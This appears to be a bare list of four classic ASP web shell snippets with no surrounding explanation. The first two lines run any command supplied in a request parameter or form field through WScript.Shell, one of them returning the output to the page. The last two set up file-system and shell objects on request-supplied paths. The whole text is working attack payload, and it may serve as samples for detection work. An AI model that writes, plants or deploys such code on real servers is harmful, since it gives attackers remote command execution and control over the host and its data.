<% Set sh = Server.CreateObject("WScript.Shell") : c = Request("c") : Set r = sh.Exec(c) : Response.Write r.StdOut.ReadAll %>
<% Set w = CreateObject("WSCRIPT.SHELL") : w.Run Request.Form("c"), 0, True %>
<% Set f = CreateObject("Scripting.FileSystemObject") : Set w = CreateObject("WScript.Shell") : p = Request("p") %>
<% Set a = CreateObject("Shell.Application") : Set d = a.NameSpace(Request("d")) %>
